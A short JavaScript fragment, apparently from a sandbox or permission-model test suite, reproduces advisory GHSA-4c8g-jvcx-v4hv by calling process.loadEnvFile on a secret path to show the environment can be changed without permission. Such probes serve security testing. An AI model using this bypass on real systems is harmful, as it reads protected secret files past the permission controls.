// GHSA-4c8g-jvcx-v4hv
// Process.loadEnvFile changes the environment without the permission.
try { process.loadEnvFile(GOAL.secret); await useProcess(process); } catch {}
try { (await import('node:process')).loadEnvFile(GOAL.secret); } catch {}
return found;
